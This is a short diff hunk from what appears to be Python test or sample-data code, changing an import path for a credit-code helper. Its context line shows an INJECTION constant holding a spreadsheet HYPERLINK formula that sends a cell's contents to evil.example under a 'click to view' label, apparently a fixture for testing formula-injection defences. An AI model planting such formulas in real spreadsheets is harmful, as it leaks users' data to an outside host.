@@ -497,7 +497,7 @@ INJECTION = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
 
 
 def _credit_code() -> str:
-    from samples.codes import credit_code
+    from samples_src.codes import credit_code
     return credit_code(430)
 
 
